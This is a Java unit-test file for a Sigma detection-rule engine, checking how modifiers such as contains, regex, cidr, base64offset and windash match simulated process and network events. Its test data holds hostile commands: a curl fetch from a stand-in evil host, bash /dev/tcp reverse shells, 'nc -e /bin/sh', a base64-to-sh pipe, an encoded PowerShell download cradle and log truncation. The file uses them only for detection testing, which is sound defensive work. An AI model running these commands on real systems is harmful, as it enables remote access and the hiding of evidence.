package org.fleetrec.detection.sigma;

import static org.fleetrec.detection.sigma.TestRules.exec;
import static org.fleetrec.detection.sigma.TestRules.fires;
import static org.fleetrec.detection.sigma.TestRules.process;
import static org.fleetrec.detection.sigma.TestRules.rejectedProcess;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import org.fleetrec.model.EventDocument;
import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;

/** Each value modifier and value form, on Linux exec documents. */
class SigmaModifierTest {
    private static final EventDocument CURL = exec("/usr/bin/curl", "curl", "-s", "-o", "/tmp/x", "http://EVIL.example/a.sh");

    @Test
    void plainValueIsWholeAndCaseInsensitive() {
        assertTrue(fires(process("sel:\n  Image: /USR/BIN/CURL\ncondition: sel"), CURL));
        assertFalse(fires(process("sel:\n  Image: /usr/bin/cur\ncondition: sel"), CURL));
    }

    @Test
    void containsStartswithEndswith() {
        assertTrue(fires(process("sel:\n  CommandLine|contains: evil.EXAMPLE\ncondition: sel"), CURL));
        assertFalse(fires(process("sel:\n  CommandLine|contains: good.example\ncondition: sel"), CURL));
        assertTrue(fires(process("sel:\n  CommandLine|startswith: 'CURL -s'\ncondition: sel"), CURL));
        assertFalse(fires(process("sel:\n  CommandLine|startswith: '-s'\ncondition: sel"), CURL));
        assertTrue(fires(process("sel:\n  Image|endswith: /curl\ncondition: sel"), CURL));
        assertFalse(fires(process("sel:\n  Image|endswith: /usr\ncondition: sel"), CURL));
    }

    @Test
    void listsAreOrAndAllMakesThemAnd() {
        assertTrue(fires(process("sel:\n  Image|endswith:\n    - /wget\n    - /curl\ncondition: sel"), CURL));
        assertTrue(fires(process("sel:\n  CommandLine|contains|all:\n    - ' -o '\n    - http\ncondition: sel"), CURL));
        assertFalse(fires(process("sel:\n  CommandLine|contains|all:\n    - ' -o '\n    - ftp\ncondition: sel"), CURL));
    }

    @Test
    void wildcardsAndEscapes() {
        assertTrue(fires(process("sel:\n  CommandLine: 'curl -? -o /tmp/* http*'\ncondition: sel"), CURL));
        assertFalse(fires(process("sel:\n  CommandLine: 'curl -?? -o*'\ncondition: sel"), CURL));
        assertTrue(fires(process("sel:\n  Image: '*/c?rl'\ncondition: sel"), CURL));
        EventDocument star = exec("/bin/echo", "echo", "a*b?c\\d");
        assertTrue(fires(process("sel:\n  CommandLine: 'echo a\\*b\\?c\\d'\ncondition: sel"), star));
        assertFalse(fires(process("sel:\n  CommandLine: 'echo a\\*b\\?c\\d'\ncondition: sel"), exec("/bin/echo", "echo", "aXbYc\\d")));
        // \\ is one backslash; \\* is a backslash followed by a wildcard
        assertTrue(fires(process("sel:\n  CommandLine: 'echo a\\*b\\?c\\\\d'\ncondition: sel"), star));
        EventDocument unc = exec("/bin/ls", "ls", "\\\\server\\share");
        assertTrue(fires(process("sel:\n  CommandLine|contains: ' \\\\\\\\server\\'\ncondition: sel"), unc));
        assertTrue(fires(process("sel:\n  CommandLine|endswith: '\\\\*'\ncondition: sel"), unc), "\\\\* = backslash then anything");
    }

    @Test
    void regexIsCaseSensitiveUnlessI() {
        assertTrue(fires(process("sel:\n  CommandLine|re: '\\s-o\\s/tmp/'\ncondition: sel"), CURL));
        assertFalse(fires(process("sel:\n  CommandLine|re: 'EVIL\\.example'\ncondition: sel"), exec("/bin/x", "x", "evil.example")));
        assertTrue(fires(process("sel:\n  CommandLine|re|i: 'EVIL\\.example'\ncondition: sel"), exec("/bin/x", "x", "evil.example")));
        assertTrue(fires(process("sel:\n  CommandLine|re: '(.){20,}'\ncondition: sel"), CURL));
    }

    @Test
    void cidrOnIpv4AndIpv6() {
        RuleSet net = TestRules.set("product: linux\ncategory: network_connection\n",
                "sel:\n  DestinationIp|cidr:\n    - 10.0.0.0/8\n    - 'fc00::/7'\ncondition: sel");
        assertTrue(net.rejected().isEmpty(), net.rejected().toString());
        assertTrue(fires(net, connect("10.1.2.3")));
        assertFalse(fires(net, connect("11.1.2.3")));
        assertTrue(fires(net, connect("fd12:3456::1")));
        assertFalse(fires(net, connect("2001:db8::1")));
        assertFalse(fires(net, connect("not-an-address.example")));
    }

    @Test
    void base64AndBase64offset() {
        String payload = "bash -i >& /dev/tcp/10.0.0.1/443 0>&1";
        String encoded = Base64.getEncoder().encodeToString(payload.getBytes(StandardCharsets.UTF_8));
        assertTrue(fires(process("sel:\n  CommandLine|base64|contains: '" + payload + "'\ncondition: sel"),
                exec("/bin/sh", "sh", "-c", "echo " + encoded + " | base64 -d | sh")));
        RuleSet offset = process("sel:\n  CommandLine|base64offset|contains: '/dev/tcp/'\ncondition: sel");
        for (String prefix : List.of("", "a", "ab", "abc", "xyzw")) {
            String b64 = Base64.getEncoder().encodeToString((prefix + "bash -i >& /dev/tcp/1.2.3.4/9 0>&1").getBytes(StandardCharsets.UTF_8));
            assertTrue(fires(offset, exec("/bin/sh", "sh", "-c", "echo " + b64)), "offset " + prefix.length());
        }
        assertFalse(fires(offset, exec("/bin/sh", "sh", "-c", "echo " + Base64.getEncoder().encodeToString("harmless text".getBytes()))));
        assertEquals(List.of("L2Rldi90Y3Av", "9kZXYvdGNwL", "vZGV2L3RjcC"), ValueCompiler.base64Offsets("/dev/tcp/".getBytes()));
    }

    @Test
    void wideBase64offset() {
        String b64 = Base64.getEncoder().encodeToString("xIEX (New-Object Net.WebClient)".getBytes(StandardCharsets.UTF_16LE));
        RuleSet r = process("sel:\n  CommandLine|wide|base64offset|contains: 'Net.WebClient'\ncondition: sel");
        assertTrue(fires(r, exec("/usr/bin/pwsh", "pwsh", "-enc", b64)));
        assertFalse(fires(r, exec("/usr/bin/pwsh", "pwsh", "-enc",
                Base64.getEncoder().encodeToString("Net.WebClient".getBytes(StandardCharsets.UTF_8)))));
    }

    @Test
    void windashTakesEveryDash() {
        RuleSet r = process("sel:\n  CommandLine|windash|contains: ' -node:'\ncondition: sel");
        for (String dash : List.of("-", "/", "\u2013", "\u2014", "\u2015")) {
            assertTrue(fires(r, exec("/bin/wmic", "wmic", dash + "node:host")), dash);
        }
        assertFalse(fires(r, exec("/bin/wmic", "wmic", "+node:host")));
    }

    @Test
    void existsNullAndEmpty() {
        EventDocument noParent = exec("/usr/bin/id", "id");
        EventDocument withParent = exec("/usr/bin/id", "id").put("process.parent.command_line", "bash");
        assertTrue(fires(process("sel:\n  ParentCommandLine|exists: true\ncondition: sel"), withParent));
        assertFalse(fires(process("sel:\n  ParentCommandLine|exists: true\ncondition: sel"), noParent));
        assertTrue(fires(process("sel:\n  ParentCommandLine|exists: false\ncondition: sel"), noParent));
        assertTrue(fires(process("sel:\n  ParentCommandLine: null\ncondition: sel"), noParent));
        assertFalse(fires(process("sel:\n  ParentCommandLine: null\ncondition: sel"), withParent));
        assertTrue(fires(process("sel:\n  ParentCommandLine:\n    - null\n    - bash\ncondition: sel"), withParent));
        assertTrue(fires(process("sel:\n  CurrentDirectory: ''\ncondition: sel"), noParent.copy().put("process.working_directory", "")));
        assertFalse(fires(process("sel:\n  CurrentDirectory: ''\ncondition: sel"), noParent.copy().put("process.working_directory", "/")));
    }

    @Test
    void numericComparisons() {
        EventDocument doc = exec("/usr/bin/id", "id");
        assertTrue(fires(process("sel:\n  ProcessId|gt: 4000\ncondition: sel"), doc));
        assertFalse(fires(process("sel:\n  ProcessId|gt: 4242\ncondition: sel"), doc));
        assertTrue(fires(process("sel:\n  ProcessId|gte: 4242\ncondition: sel"), doc));
        assertTrue(fires(process("sel:\n  ProcessId|lt: 5000\ncondition: sel"), doc));
        assertFalse(fires(process("sel:\n  ProcessId|lte: 4241\ncondition: sel"), doc));
        assertEquals("'ProcessId|gt' needs a number, not 'many'",
                rejectedProcess("sel:\n  ProcessId|gt: many\ncondition: sel").reason().replaceFirst("^search 'sel', 'ProcessId\\|gt': ", ""));
    }

    @Test
    void casedAndNeq() {
        assertFalse(fires(process("sel:\n  Image|cased: /USR/BIN/CURL\ncondition: sel"), CURL));
        assertTrue(fires(process("sel:\n  Image|cased: /usr/bin/curl\ncondition: sel"), CURL));
        assertTrue(fires(process("sel:\n  Image|neq: /usr/bin/wget\ncondition: sel"), CURL));
        assertFalse(fires(process("sel:\n  Image|neq: /usr/bin/curl\ncondition: sel"), CURL));
    }

    @Test
    void fieldref() {
        RuleSet same = process("sel:\n  CommandLine|fieldref: ParentCommandLine\ncondition: sel");
        assertTrue(fires(same, exec("/bin/sh", "sh", "x").put("process.parent.command_line", "SH X")));
        assertFalse(fires(same, exec("/bin/sh", "sh", "x").put("process.parent.command_line", "bash")));
        assertFalse(fires(process("sel:\n  CommandLine|fieldref|cased: ParentCommandLine\ncondition: sel"),
                exec("/bin/sh", "sh", "x").put("process.parent.command_line", "SH X")));
    }

    @Test
    void keywordsSearchTheCommandLineOfProcessStarts() {
        RuleSet r = TestRules.set("product: linux\n", "keywords:\n  - '/dev/tcp/'\n  - 'nc -e'\ncondition: keywords");
        assertTrue(fires(r, exec("/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/1.2.3.4/9 0>&1")));
        assertFalse(fires(r, exec("/bin/bash", "bash", "-c", "ls")));
        RuleSet all = TestRules.set("product: linux\n", "keywords:\n  '|all':\n    - truncate\n    - '-s'\ncondition: keywords");
        assertTrue(fires(all, exec("/usr/bin/truncate", "truncate", "-s", "0", "/var/log/x")));
        assertFalse(fires(all, exec("/usr/bin/truncate", "truncate", "--reference=y", "/var/log/x")));
        // a file event's path is searched; a file event's acting command line is not (it was reported when it ran)
        EventDocument file = EventDocument.create().put("event.dataset", "file").put("event.action", "created")
                .put("host.os.type", "linux").put("file.path", "/tmp/x/dev/tcp/").put("process.command_line", "nc -e /bin/sh")
                .putAll("event.category", List.of("file")).putAll("event.type", List.of("creation"));
        assertTrue(fires(r, file));
        assertFalse(fires(r, file.copy().put("file.path", "/tmp/y")));
    }

    @Test
    void refusedModifiersSayWhich() {
        assertTrue(rejectedProcess("sel:\n  Image|frobnicate: x\ncondition: sel").reason().contains("unknown modifier 'frobnicate'"));
        assertTrue(rejectedProcess("sel:\n  Image|expand: '%Servers%'\ncondition: sel").reason().contains("placeholders"));
        assertTrue(rejectedProcess("sel:\n  Image|re|contains: x\ncondition: sel").reason().contains("combined with 're'"));
        assertTrue(rejectedProcess("sel:\n  Image|contains|endswith: x\ncondition: sel").reason().contains("more than one of"));
        assertTrue(rejectedProcess("sel:\n  Image|wide: x\ncondition: sel").reason().contains("without base64"));
        Rejected field = rejectedProcess("sel:\n  IntegrityLevel: High\ncondition: sel");
        assertTrue(field.unsupported());
        assertTrue(field.reason().contains("field 'IntegrityLevel' has no counterpart"), field.reason());
    }

    private static EventDocument connect(String ip) {
        return EventDocument.create().put("event.dataset", "network").put("event.action", "connected-to").put("host.os.type", "linux")
                .put("destination.ip", ip).put("destination.port", 443).put("process.executable", "/usr/bin/curl");
    }
}
